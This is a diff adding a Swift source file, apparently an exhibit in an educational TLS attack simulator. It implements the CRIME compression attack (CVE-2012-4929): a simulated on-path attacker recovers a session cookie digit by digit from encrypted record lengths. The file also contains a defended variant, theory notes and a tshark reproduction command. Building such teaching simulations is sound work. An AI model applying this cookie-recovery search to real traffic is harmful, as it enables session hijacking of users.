@@ -1,0 +1,169 @@
+import Crypto
+import Render
+import Simulator
+import TCPSim
+import TLSSim
+import Trace
+
+/// Where the attacker's text and a secret are compressed together, the length tells the secret (Rizzo and Duong 2012).
+package enum Crime: Exhibit {
+    package static let card = Card(
+        "crime", .record, .onPath, .read, variants: ["cookie", "short"], unit: "requests", year: 2012,
+        cites: [.rfc(3749, "2"), .rfc(9325, "3.3")], cves: ["CVE-2012-4929"], words: CrimeCard.self)
+
+    package static func perform(_ show: Performance) throws -> Outcome {
+        let stage = show.stage()
+        let digits = show.variant == "short" ? 3 : 16
+        let methods: [UInt8] = show.isDefended ? [0] : [1, 0]
+        let browser = try Browser(
+            show, on: stage, suite: .rsaAES128GCM, digits: digits, server: { $0.compressionMethods = methods },
+            client: { $0.compressionMethods = methods })
+        let attacker = show.attacker(on: stage)
+        browser.begin(attacker)
+        var search = CrimeSearch(attacker, browser, digits: digits)
+        let found = search.cookie()
+        var outcome = Outcome()
+        outcome.tries = search.guesses.count
+        outcome.reached = found != nil
+        outcome.loot = found.map { [("cookie", $0)] } ?? []
+        outcome.truth = [("cookie", browser.cookie)]
+        outcome.theory = Theory(
+            median: Double(16 * digits + 2), "16 for each of L digits and 2 for the end, and more where lengths are alike",
+            [("L", Double(digits))])
+        outcome.evidence = [
+            ("server", .socket(Socket(.server, 443))), ("client", .socket(IPv4Address.client)),
+            (
+                "guesses",
+                .array(
+                    search.guesses.map {
+                        .members(
+                            ("text", .string($0.text)), ("filler", .number($0.filler)), ("frame", .number($0.frame)),
+                            ("length", .number($0.length)))
+                    })
+            ),
+        ]
+        outcome.connections = [0, 1, 2, browser.connections - 1]
+        outcome.say(CrimeNote.asks)
+        outcome.say(CrimeNote.reckons)
+        let first = search.guesses.prefix(16)
+        outcome.say(
+            CrimeNote.lengths(first.map { ($0.text, $0.length) }), frames: first.map(\.frame))
+        if let found {
+            if search.doubts > 0 { outcome.say(CrimeNote.doubts(search.doubts)) }
+            outcome.say(CrimeNote.read(String(decoding: found, as: UTF8.self)), [.init("cookie", found)])
+        } else {
+            outcome.say(CrimeNote.nothing(search.guesses.count), cite: .rfc(9325, "3.3"))
+        }
+        outcome.reproduce = [
+            "tshark -r FILE -Y 'tls.record.content_type==23 && ip.src==10.0.0.1' -T fields -e tls.record.length | head -n 17 | tail -n 16 | sort | uniq -c"
+        ]
+        return outcome
+    }
+}
+
+/// How the attacker goes about it: digit after digit, each of the sixteen in a request.
+///
+/// A guess stands in the path as `Cookie: id=` and the digits. Where it is right, the piece that is replaced in the real line is longer by
+/// a digit. Four things are in the way. The guess also compresses with the rest of the request, so she reckons with a compressor of her
+/// own what the length would be with a cookie that has none of her digits, and looks at the difference. What the difference is of the
+/// wrong digits depends on what is repeated within the cookie; so she looks for the one digit that differs from the others, and not for the
+/// shortest. Lengths are whole octets; where none or several differ, she asks again with one to seven octets of nine bits in front, and
+/// adds up. And a wrong digit may look right: then no digit behind it differs from the others, and she goes back.
+private struct CrimeSearch {
+    /// A request.
+    struct Guess {
+        let text: String
+        /// How many octets of nine bits stood in front.
+        let filler: Int
+        let frame: Int
+        /// Of the record.
+        let length: Int
+        /// Of the request.
+        let plain: Int
+    }
+
+    private(set) var guesses: [Guess] = []
+    /// How often she had to ask all sixteen more exactly.
+    private(set) var doubts = 0
+    private let attacker: Attacker
+    private let browser: Browser
+    private let digits: Int
+    /// Octets of nine bits that occur nowhere else.
+    private let filler: [UInt8]
+
+    init(_ attacker: Attacker, _ browser: Browser, digits: Int) {
+        self.attacker = attacker
+        self.browser = browser
+        self.digits = digits
+        var random = attacker.random
+        filler = random.octets(307).map { 0x90 + $0 % 0x70 }
+    }
+
+    /// The cookie; nil if no length tells anything.
+    mutating func cookie(knowing known: [UInt8] = []) -> [UInt8]? {
+        if known.count == digits {
+            // Behind the cookie comes a semicolon, which she knows.
+            var ends = scores(known, [UInt8(ascii: ";"), UInt8(ascii: "0")], fillers: 0...0)
+            if ends[0].score == ends[1].score { ends = scores(known, ends.map(\.symbol), fillers: 1...7) }
+            return ends[0].score < ends[1].score ? known : nil
+        }
+        let rough = scores(known, Browser.digits, fillers: 0...0)
+        let likely = unlikeOthers(rough)
+        var tried: [UInt8] = []
+        if likely.count == 1, let digit = likely.first, digit.isShorter {
+            tried = [digit.symbol]
+            if let found = cookie(knowing: known + tried) { return found }
+        }
+        // Records as long as what is asked, and nonce, tag and nothing else: they are not compressed.
+        guard guesses.contains(where: { $0.length != $0.plain + 24 }) else { return nil }
+        doubts += 1
+        let fine = scores(known, Browser.digits, fillers: 1...7)
+        let sums = zip(rough, fine).map { (symbol: $0.symbol, score: $0.score + $1.score) }
+        for digit in unlikeOthers(sums) where !tried.contains(digit.symbol) {
+            if let found = cookie(knowing: known + [digit.symbol]) { return found }
+        }
+        return nil
+    }
+
+    /// The digits whose score is not that of most, the shortest first.
+    private func unlikeOthers(_ scores: [(symbol: UInt8, score: Int)]) -> [(symbol: UInt8, isShorter: Bool)] {
+        let counts = scores.reduce(into: [Int: Int]()) { $0[$1.score, default: 0] += 1 }
+        let usual = counts.max { ($0.value, $1.key) < ($1.value, $0.key) }?.key ?? 0
+        return scores.filter { $0.score != usual }.sorted { ($0.score, $0.symbol) < ($1.score, $1.symbol) }
+            .map { ($0.symbol, $0.score < usual) }
+    }
+
+    /// For each of the symbols behind `known`: by how much the record is longer than she reckons.
+    private mutating func scores(
+        _ known: [UInt8], _ symbols: [UInt8], fillers: ClosedRange<Int>
+    ) -> [(symbol: UInt8, score: Int)] {
+        var scores: [(symbol: UInt8, score: Int)] = []
+        for symbol in symbols {
+            var sum = 0
+            for count in fillers {
+                let guess = Array("Cookie: id=".utf8) + known + [symbol]
+                let path = Array(filler.prefix(count)) + guess + Array(filler.dropFirst(7))
+                // Octets that occur nowhere else.
+                let unlike = (0..<max(1, digits - known.count)).map { 0x80 + UInt8($0) }
+                let reckoned = Deflate.compress(Browser.head(path: path) + known + unlike + Browser.tail(body: []))
+                sum += ask(path, String(decoding: guess, as: UTF8.self), filler: count) - reckoned.count
+            }
+            scores.append((symbol, sum))
+        }
+        return scores
+    }
+
+    /// The length of the record with a request.
+    private mutating func ask(_ path: [UInt8], _ text: String, filler count: Int) -> Int {
+        _ = attacker.look()
+        browser.ask(path: path)
+        let sight = attacker.wait(.seconds(5)) {
+            $0.source.address == .client && $0.segment.payload.first == ContentType.applicationData.rawValue
+        }
+        _ = attacker.wait(.milliseconds(100))
+        let length = (sight?.segment.payload.count ?? 5) - 5
+        let plain = Browser.head(path: path).count + digits + Browser.tail(body: []).count
+        guesses.append(Guess(text: text, filler: count, frame: sight?.frame ?? 0, length: length, plain: plain))
+        return length
+    }
+}
